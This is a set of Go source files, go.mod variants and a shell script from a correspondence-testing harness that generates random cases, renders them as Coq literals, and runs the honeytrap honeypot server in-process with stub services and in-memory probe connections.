			dist["op:"+op.Name]++
		}
		dist[fmt.Sprintf("buflen:%d", min(len(in.Data), 7))]++
		dist[fmt.Sprintf("nops:%d", min(len(in.Ops), 5))]++
		cases = append(cases, hx.Case{ID: i, Kind: "decoder", Input: in, Obs: obs, Coq: coqDecCase(i, in, obs)})
	}
	hx.Write(o, "C17", "dec", "From HT Require Import Common.Bytes C17.Model C17.Check.", "case", cases, dist, nil, 400)
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
