// Package hx: shared plumbing for the per-property correspondence harnesses.
// One PRNG (splitmix64) derived from VERIF_SEED, Coq literal printers, shard writer.
package hx

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

type Rand struct{ s uint64 }

func NewRand(seed uint64) *Rand { return &Rand{s: seed*0x9E3779B97F4A7C15 + 0x1234567} }

func (r *Rand) U64() uint64 {
	r.s += 0x9E3779B97F4A7C15
	z := r.s
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// Intn returns a value in [0,n).
func (r *Rand) Intn(n int) int {
	if n <= 0 {
		return 0
	}
	return int(r.U64() % uint64(n))
}

// Range returns a value in [lo,hi].
func (r *Rand) Range(lo, hi int) int { return lo + r.Intn(hi-lo+1) }

func (r *Rand) Bool() bool { return r.U64()&1 == 1 }

// Chance returns true with probability num/den.
func (r *Rand) Chance(num, den int) bool { return r.Intn(den) < num }

func (r *Rand) Bytes(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.U64())
	}
	return b
}

// BytesFrom draws n bytes from the alphabet.
func (r *Rand) BytesFrom(n int, alphabet []byte) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[r.Intn(len(alphabet))]
	}
	return b
}

func (r *Rand) PickStr(xs []string) string { return xs[r.Intn(len(xs))] }
func (r *Rand) PickInt(xs []int) int        { return xs[r.Intn(len(xs))] }

// B is a byte string that is written to JSON as lower-case hex (readable replays).
type B []byte

func (b B) MarshalJSON() ([]byte, error) { return json.Marshal(fmt.Sprintf("%x", []byte(b))) }
func (b *B) UnmarshalJSON(data []byte) error {
	var s string
	if err := json.Unmarshal(data, &s); err != nil {
		return err
	}
	out := make([]byte, len(s)/2)
	for i := range out {
		var x int
		fmt.Sscanf(s[2*i:2*i+2], "%02x", &x)
		out[i] = byte(x)
	}
	*b = out
	return nil
}

// ---- Coq literals ----

// CoqBytes renders a byte string as a list of N literals (in N scope).  Long strings
// are emitted as a concatenation of 1000-element chunks (one huge list literal
// overflows coqc's stack).
func CoqBytes(b []byte) string {
	if len(b) == 0 {
		return "(@nil N)"
	}
	if len(b) >= 24 {
		return coqBytesPacked(b)
	}
	return coqBytesFlat(b)
}

// coqBytesPacked: 7 bytes (big-endian) per primitive 63-bit integer literal, unpacked by
// Common/Pack.v inside vm_compute (coqc parses these ~20x faster than N-literal lists).
func coqBytesPacked(b []byte) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "(unpack %d%%Z [", len(b))
	for i := 0; i < len(b); i += 7 {
		j := i + 7
		if j > len(b) {
			j = len(b)
		}
		var w uint64
		for _, x := range b[i:j] {
			w = w<<8 | uint64(x)
		}
		if i > 0 {
			sb.WriteString(";")
			if (i/7)%64 == 0 {
				sb.WriteString("\n ")
			}
		}
		fmt.Fprintf(&sb, "0x%x", w)
	}
	sb.WriteString("]%uint63)")
	return sb.String()
}

func coqBytesFlat(b []byte) string {
	var sb strings.Builder
	sb.WriteString("[")
	for i, x := range b {
		if i > 0 {
			sb.WriteString(";")
		}
		fmt.Fprintf(&sb, "%d", x)
	}
	sb.WriteString("]%N")
	return sb.String()
}

func CoqStr(s string) string { return CoqBytes([]byte(s)) }

func CoqZ(z int64) string {
	if z < 0 {
		return fmt.Sprintf("(%d)%%Z", z)
	}
	return fmt.Sprintf("%d%%Z", z)
}

func CoqN(n uint64) string { return fmt.Sprintf("%d%%N", n) }

func CoqBool(b bool) string {
	if b {
		return "true"
	}
	return "false"
}

// CoqList renders already-rendered elements as a list.
func CoqList(elems []string, ty string) string {
	if len(elems) == 0 {
		return "(@nil " + ty + ")"
	}
	return "[" + strings.Join(elems, "; ") + "]"
}

func CoqOpt(s string, some bool, ty string) string {
	if !some {
		return "(@None " + ty + ")"
	}
	return "(Some " + s + ")"
}

// ---- command line ----

type Opts struct {
	Seed uint64
	Tier string // quick | thorough | search
	Out  string
	Only string // replay: path of a replay/corpus json
}

func ParseArgs() Opts {
	var o Opts
	flag.Uint64Var(&o.Seed, "seed", 1, "PRNG seed")
	flag.StringVar(&o.Tier, "tier", "quick", "quick|thorough|search")
	flag.StringVar(&o.Out, "out", "", "output directory")
	flag.StringVar(&o.Only, "replay", "", "replay file: run only its case")
	flag.Parse()
	if o.Out == "" {
		fmt.Fprintln(os.Stderr, "need -out")
		os.Exit(2)
	}
	os.MkdirAll(o.Out, 0o755)
	return o
}

// ---- output ----

// Case is one correspondence case: Input and Obs are free-form JSON for the
// evidence/replay files, Coq is the rendered Gallina term of type [case].
type Case struct {
	ID    int         `json:"id"`
	Kind  string      `json:"kind"`
	Input interface{} `json:"input"`
	Obs   interface{} `json:"obs"`
	Coq   string      `json:"-"`
	// Crash != "" : the implementation failed abruptly (panic / hang) on this case; the
	// driver reports it as a violation with signature <prop>/<part>/crash and the case
	// is left out of the Coq shard.
	Crash string `json:"crash,omitempty"`
}

type Result struct {
	Property string                 `json:"property"`
	Part     string                 `json:"part"`
	Seed     uint64                 `json:"seed"`
	Tier     string                 `json:"tier"`
	Cases    []Case                 `json:"cases"`
	Dist     map[string]int         `json:"dist"`
	Extra    map[string]interface{} `json:"extra,omitempty"`
	Shards   []string               `json:"shards"`
}

// Write emits cases_<part>.json and cases_<part>_<k>.v shards.  header is the Require line(s),
// caseType the Gallina type of a case; every shard defines r_mism, r_viol, r_tags
// through the functions mismatches/violations/tags exported by the Check module.
func Write(o Opts, prop, part, header, caseType string, cases []Case, dist map[string]int, extra map[string]interface{}, shardSize int) {
	res := Result{Property: prop, Part: part, Seed: o.Seed, Tier: o.Tier, Cases: cases, Dist: dist, Extra: extra}
	all := cases
	cases = nil
	for _, c := range all {
		if c.Crash == "" {
			cases = append(cases, c)
		}
	}
	old, _ := filepath.Glob(filepath.Join(o.Out, "cases_"+part+"_*.v"))
	for _, f := range old {
		os.Remove(f)
	}
	for k := 0; k*shardSize < len(cases) || k == 0; k++ {
		lo, hi := k*shardSize, (k+1)*shardSize
		if hi > len(cases) {
			hi = len(cases)
		}
		var sb strings.Builder
		sb.WriteString("From Coq Require Import Uint63.\nFrom HT Require Import Common.Pack.\n")
		sb.WriteString(header)
		sb.WriteString("\nOpen Scope Z_scope.\n")
		fmt.Fprintf(&sb, "Definition cases : list %s := \n", caseType)
		if lo >= hi {
			fmt.Fprintf(&sb, "  (@nil %s).\n", caseType)
		} else {
			sb.WriteString("  [\n")
			for i := lo; i < hi; i++ {
				sb.WriteString("   ")
				sb.WriteString(cases[i].Coq)
				if i+1 < hi {
					sb.WriteString(";")
				}
				sb.WriteString("\n")
			}
			sb.WriteString("  ].\n")
		}
		sb.WriteString("Definition r_mism := Eval vm_compute in mismatches cases.\n")
		sb.WriteString("Definition r_viol := Eval vm_compute in violations cases.\n")
		sb.WriteString("Definition r_tags := Eval vm_compute in tags cases.\n")
		sb.WriteString("Print r_mism.\nPrint r_viol.\nPrint r_tags.\n")
		name := fmt.Sprintf("cases_%s_%d.v", part, k)
		if err := os.WriteFile(filepath.Join(o.Out, name), []byte(sb.String()), 0o644); err != nil {
			panic(err)
		}
		res.Shards = append(res.Shards, name)
		if hi >= len(cases) {
			break
		}
	}
	f, err := os.Create(filepath.Join(o.Out, "cases_"+part+".json"))
	if err != nil {
		panic(err)
	}
	enc := json.NewEncoder(f)
	if err := enc.Encode(res); err != nil {
		panic(err)
	}
	f.Close()
}

// SortedKeys helps print distributions deterministically.
func SortedKeys(m map[string]int) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

// LoadReplay reads a replay/corpus file and returns its "input" member.
func LoadReplay(path string, into interface{}) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	var w struct {
		Input json.RawMessage `json:"input"`
	}
	if err := json.Unmarshal(b, &w); err != nil {
		return err
	}
	return json.Unmarshal(w.Input, into)
}

// ReplayPart returns the "part" a replay file belongs to ("" if it names none).
func ReplayPart(path string) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return ""
	}
	var w struct {
		Part string `json:"part"`
	}
	json.Unmarshal(b, &w)
	return w.Part
}

// TomlStr quotes a string for a TOML basic string (control bytes as \uXXXX).
func TomlStr(s string) string {
	var sb strings.Builder
	sb.WriteByte('"')
	for _, c := range []byte(s) {
		switch {
		case c == '"' || c == '\\':
			sb.WriteByte('\\')
			sb.WriteByte(c)
		case c < 0x20 || c >= 0x7f:
			fmt.Fprintf(&sb, "\\u%04X", c)
		default:
			sb.WriteByte(c)
		}
	}
	sb.WriteByte('"')
	return sb.String()
}

// Fatal aborts the harness itself (a harness problem, not an implementation failure).
func Fatal(format string, a ...interface{}) {
	fmt.Fprintf(os.Stderr, "HARNESS-ERROR: "+format+"\n", a...)
	os.Exit(3)
}
