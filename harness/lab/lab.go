// Package lab runs the real honeytrap server (server.New + Run) inside the harness
// process with a recording listener, stub services and capture channels, all
// registered through the public registries.  One lab at a time (config.Default and
// the registries are process globals).
package lab

import (
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/config"
	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"
)

type Handled struct {
	Service string
	Bytes   []byte
	Local   net.Addr
	Remote  net.Addr
	Reads   []int
}

type Lab struct {
	mu      sync.Mutex
	Added   []net.Addr
	Handled []Handled
	Events  map[string][]event.Event // capture channel name -> events in arrival order
	Bus     pushers.Channel          // what the listener was given (the event bus)
	SvcBus  pushers.Channel          // what services were given
	accept  chan net.Conn
	started chan struct{}
	done    chan struct{}
	cancel  context.CancelFunc
	once    sync.Once
}

var (
	curMu sync.Mutex
	cur   *Lab
)

func current() *Lab { curMu.Lock(); defer curMu.Unlock(); return cur }

// ---- recording listener ----
type recListener struct{ lab *Lab }

func (l *recListener) AddAddress(a net.Addr) {
	l.lab.mu.Lock()
	l.lab.Added = append(l.lab.Added, a)
	l.lab.mu.Unlock()
}
func (l *recListener) SetChannel(c pushers.Channel) { l.lab.Bus = c }
func (l *recListener) Start(ctx context.Context) error {
	l.lab.once.Do(func() { close(l.lab.started) })
	return nil
}
func (l *recListener) Accept() (net.Conn, error) {
	c, ok := <-l.lab.accept
	if !ok {
		select {} // never return an error: Run's accept goroutine panics on it
	}
	return c, nil
}

// ---- stub services ----
type stub struct {
	Name     string `toml:"name"`
	Prefix   string `toml:"prefix"`
	ReadSize int    `toml:"readsize"`
	Delay    int    `toml:"delay"` // ms to wait before the first read
	ch       pushers.Channel
	lab      *Lab // the instance this service was built for (several may be alive at a time)
}

func (s *stub) owner() *Lab {
	if s.lab != nil {
		return s.lab
	}
	return current()
}

func (s *stub) SetChannel(c pushers.Channel) {
	s.ch = c
	if l := s.owner(); l != nil {
		l.SvcBus = c
	}
}
func (s *stub) Handle(ctx context.Context, conn net.Conn) error {
	lab := s.owner()
	rs := s.ReadSize
	if rs <= 0 {
		rs = 4096
	}
	var got []byte
	var reads []int
	if s.Delay > 0 {
		time.Sleep(time.Duration(s.Delay) * time.Millisecond)
	}
	buf := make([]byte, rs)
	for {
		n, err := conn.Read(buf)
		if n > 0 {
			got = append(got, buf[:n]...)
			reads = append(reads, n)
		}
		if err != nil {
			break
		}
		if n == 0 {
			break // drained datagram connection
		}
	}
	if lab != nil {
		lab.mu.Lock()
		lab.Handled = append(lab.Handled, Handled{Service: s.Name, Bytes: got, Local: conn.LocalAddr(), Remote: conn.RemoteAddr(), Reads: reads})
		lab.mu.Unlock()
	}
	return nil
}

type stubDet struct{ stub }

func (s *stubDet) CanHandle(b []byte) bool {
	return len(b) >= len(s.Prefix) && string(b[:len(s.Prefix)]) == s.Prefix
}

// ---- capture channel ----
type capChannel struct {
	Name string `toml:"name"`
	lab  *Lab
}

func (c *capChannel) Send(e event.Event) {
	l := c.lab
	if l == nil {
		l = current()
	}
	if l != nil {
		l.mu.Lock()
		l.Events[c.Name] = append(l.Events[c.Name], e)
		l.mu.Unlock()
	}
}

func init() {
	listener.Register("verif-rec", func(opts ...func(listener.Listener) error) (listener.Listener, error) {
		l := &recListener{lab: current()}
		for _, o := range opts {
			o(l)
		}
		return l, nil
	})
	services.Register("verif-stub", func(opts ...services.ServicerFunc) services.Servicer {
		s := &stub{lab: current()}
		for _, o := range opts {
			o(s)
		}
		return s
	})
	services.Register("verif-stub-det", func(opts ...services.ServicerFunc) services.Servicer {
		s := &stubDet{stub{lab: current()}}
		for _, o := range opts {
			o(s)
		}
		return s
	})
	pushers.Register("verif-cap", func(opts ...func(pushers.Channel) error) (pushers.Channel, error) {
		c := &capChannel{lab: current()}
		for _, o := range opts {
			o(c)
		}
		return c, nil
	})
}

var labSeq int

// Start boots a server on the given TOML configuration and returns once the listener
// has been started (or Run returned).
func Start(tomlText, scratch string) (*Lab, error) {
	l := &Lab{Events: map[string][]event.Event{}, accept: make(chan net.Conn), started: make(chan struct{}), done: make(chan struct{})}
	curMu.Lock()
	cur = l
	curMu.Unlock()
	config.Default = config.Config{}
	labSeq++
	p := filepath.Join(scratch, fmt.Sprintf("lab-%d.toml", labSeq))
	if err := os.WriteFile(p, []byte(tomlText), 0o644); err != nil {
		return nil, err
	}
	defer os.Remove(p)
	opt, err := server.WithConfig(p)
	if err != nil {
		return nil, err
	}
	srv, err := server.New(opt)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	l.cancel = cancel
	go func() {
		defer close(l.done)
		srv.Run(ctx)
	}()
	select {
	case <-l.started:
	case <-l.done:
	case <-time.After(10 * time.Second):
		return l, fmt.Errorf("server did not start")
	}
	return l, nil
}

func (l *Lab) Stop() {
	l.cancel()
	select {
	case <-l.done:
	case <-time.After(5 * time.Second):
	}
}

// StartSocket boots a server whose configuration uses the real "socket" listener and
// waits until readyTCP (a configured loopback tcp address) accepts connections.
func StartSocket(tomlText, scratch, readyTCP string) (*Lab, error) {
	l := &Lab{Events: map[string][]event.Event{}, accept: make(chan net.Conn), started: make(chan struct{}), done: make(chan struct{})}
	curMu.Lock()
	cur = l
	curMu.Unlock()
	config.Default = config.Config{}
	labSeq++
	p := filepath.Join(scratch, fmt.Sprintf("lab-%d.toml", labSeq))
	if err := os.WriteFile(p, []byte(tomlText), 0o644); err != nil {
		return nil, err
	}
	defer os.Remove(p)
	opt, err := server.WithConfig(p)
	if err != nil {
		return nil, err
	}
	srv, err := server.New(opt)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	l.cancel = cancel
	go func() {
		defer close(l.done)
		srv.Run(ctx)
	}()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		c, err := net.DialTimeout("tcp", readyTCP, 200*time.Millisecond)
		if err == nil {
			c.Close()
			l.once.Do(func() { close(l.started) })
			return l, nil
		}
		time.Sleep(20 * time.Millisecond)
	}
	return l, fmt.Errorf("socket listener did not come up on %s", readyTCP)
}

// FreePorts returns n currently free loopback port numbers (tcp and udp checked).
func FreePorts(n int) []int {
	var out []int
	var keep []io.Closer
	for len(out) < n {
		t, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			continue
		}
		port := t.Addr().(*net.TCPAddr).Port
		u, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.ParseIP("127.0.0.1"), Port: port})
		if err != nil {
			t.Close()
			continue
		}
		keep = append(keep, t, u)
		out = append(out, port)
	}
	for _, c := range keep {
		c.Close()
	}
	return out
}

// Started reports whether the listener was started (false: Run returned early).
func (l *Lab) Started() bool {
	select {
	case <-l.started:
		return true
	default:
		return false
	}
}

func (l *Lab) Snapshot() (added []net.Addr, handled []Handled) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]net.Addr(nil), l.Added...), append([]Handled(nil), l.Handled...)
}

func (l *Lab) EventsOf(name string) []event.Event {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]event.Event(nil), l.Events[name]...)
}

// ---- in-memory connections with chosen addresses ----
type AConn struct {
	net.Conn
	L, R   net.Addr
	closed chan struct{}
	once   sync.Once
}

func (c *AConn) LocalAddr() net.Addr  { return c.L }
func (c *AConn) RemoteAddr() net.Addr { return c.R }
func (c *AConn) Close() error {
	c.once.Do(func() { close(c.closed) })
	return c.Conn.Close()
}
func (c *AConn) Closed() <-chan struct{} { return c.closed }

// A real TCP socket accepts deadlines after the peer has closed (the next Read then
// reports EOF); net.Pipe refuses them with io.ErrClosedPipe.  Emulate the socket.
func (c *AConn) SetDeadline(t time.Time) error {
	if err := c.Conn.SetDeadline(t); err != nil && err != io.ErrClosedPipe {
		return err
	}
	return nil
}
func (c *AConn) SetReadDeadline(t time.Time) error {
	if err := c.Conn.SetReadDeadline(t); err != nil && err != io.ErrClosedPipe {
		return err
	}
	return nil
}
func (c *AConn) SetWriteDeadline(t time.Time) error {
	if err := c.Conn.SetWriteDeadline(t); err != nil && err != io.ErrClosedPipe {
		return err
	}
	return nil
}

// Pipe returns the server side (with the given addresses) and the client side.
func Pipe(local, remote net.Addr) (*AConn, net.Conn) {
	s, c := net.Pipe()
	return &AConn{Conn: s, L: local, R: remote, closed: make(chan struct{})}, c
}

// Probe injects a TCP-like connection, writes the segments (one Write each), closes the
// client side and waits until the server has closed its side.
func (l *Lab) Probe(local, remote net.Addr, segments [][]byte) error {
	return l.ProbePaced(local, remote, segments, nil)
}

// ProbePaced is Probe with a client that pauses gaps[i] before writing segment i (a missing
// or zero entry = no pause).  The waits are bounds for "the server hangs", generous enough
// for a loaded machine; they only cost time when something is wrong.
// hangSeen: once a wait for the server has run into its bound the server under test hangs for
// real; the remaining probes of the run then use short bounds (every one of them is reported
// anyway) instead of costing a minute each.
var hangSeen int32

func bound(d time.Duration) time.Duration {
	if atomic.LoadInt32(&hangSeen) != 0 {
		return 3 * time.Second
	}
	return d
}

func (l *Lab) ProbePaced(local, remote net.Addr, segments [][]byte, gaps []time.Duration) error {
	sc, cc := Pipe(local, remote)
	select {
	case l.accept <- sc:
	case <-time.After(bound(30 * time.Second)):
		atomic.StoreInt32(&hangSeen, 1)
		return fmt.Errorf("server does not accept")
	}
	total := bound(60 * time.Second)
	for _, g := range gaps {
		total += g
	}
	go func() {
		for i, s := range segments {
			if i < len(gaps) && gaps[i] > 0 {
				time.Sleep(gaps[i])
			}
			if _, err := cc.Write(s); err != nil {
				break
			}
		}
		cc.Close()
	}()
	select {
	case <-sc.Closed():
	case <-time.After(total):
		atomic.StoreInt32(&hangSeen, 1)
		return fmt.Errorf("server did not close the connection")
	}
	io.Copy(io.Discard, cc)
	return nil
}

// ProbeUDP injects one datagram the way the socket listener does (DummyUDPConn).
type udpDone struct {
	*listener.DummyUDPConn
	closed chan struct{}
	once   sync.Once
}

func (u *udpDone) Close() error { u.once.Do(func() { close(u.closed) }); return nil }

func (l *Lab) ProbeUDP(local net.Addr, remote *net.UDPAddr, datagram []byte, reply func([]byte)) error {
	u := &udpDone{DummyUDPConn: &listener.DummyUDPConn{Buffer: append([]byte(nil), datagram...), Laddr: local, Raddr: remote,
		Fn: func(b []byte, addr *net.UDPAddr) (int, error) {
			if reply != nil {
				reply(append([]byte(nil), b...))
			}
			return len(b), nil
		}}, closed: make(chan struct{})}
	select {
	case l.accept <- u:
	case <-time.After(bound(30 * time.Second)):
		atomic.StoreInt32(&hangSeen, 1)
		return fmt.Errorf("server does not accept")
	}
	select {
	case <-u.closed:
	case <-time.After(bound(60 * time.Second)):
		atomic.StoreInt32(&hangSeen, 1)
		return fmt.Errorf("server did not close the datagram connection")
	}
	return nil
}
