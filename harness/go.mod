module verif/harness

go 1.13

require github.com/honeytrap/honeytrap v0.0.0

replace github.com/honeytrap/honeytrap => /repo
