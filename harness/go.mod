module verif/harness

go 1.13

require (
	github.com/BurntSushi/toml v0.3.0
	github.com/Logicalis/asn1 v0.0.0-20160307192209-c9c836c1a3cd
	github.com/honeytrap/honeytrap v0.0.0
	github.com/op/go-logging v0.0.0-20160211212156-b2cb9fa56473
	golang.org/x/time v0.0.0-20191024005414-555d28b269f0
)

replace github.com/honeytrap/honeytrap => /repo
