module verif/harness

go 1.13

require (
	github.com/BurntSushi/toml v0.3.0
	github.com/Logicalis/asn1 v0.0.0-20160307192209-c9c836c1a3cd
	github.com/dutchcoders/gobus v0.0.0-20180915095724-ece5a7810d96
	github.com/go-asn1-ber/asn1-ber v0.0.0-20170511165959-379148ca0225
	github.com/honeytrap/honeytrap v0.0.0
	github.com/miekg/dns v1.0.4
	github.com/mimoo/disco v0.0.0-20180114190844-15dd4b8476c9
	github.com/op/go-logging v0.0.0-20160211212156-b2cb9fa56473
	github.com/rs/xid v0.0.0-20170604230408-02dd45c33376
	golang.org/x/crypto v0.0.0-20200128174031-69ecbb4d6d5d
	golang.org/x/time v0.0.0-20191024005414-555d28b269f0
)

replace github.com/honeytrap/honeytrap => /repo
