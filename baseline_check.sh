#!/bin/sh
# Runs the repository's pinned suite with the guard OFF on /repo and compares with BASELINE.json.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
OUT=${1:-/verif/work/baseline.json}
cd /repo && go test -vet=off -json -count=1 -timeout 25m ./... > "$OUT" 2>/verif/work/baseline.err
python3 - "$OUT" <<'PY'
import json,sys
passed=set(); failed=set()
for l in open(sys.argv[1]):
    try: e=json.loads(l)
    except Exception: continue
    if e.get('Test') and e.get('Action') in ('pass','fail'):
        (passed if e['Action']=='pass' else failed).add(e['Package']+'::'+e['Test'])
b=json.load(open('/root/.vp/BASELINE.json'))
missing=[t for t in b['stable_pass'] if t not in passed]
print('baseline stable tests:',len(b['stable_pass']),'passing now:',len(b['stable_pass'])-len(missing))
for t in missing: print('  NOT PASSING:',t)
PY
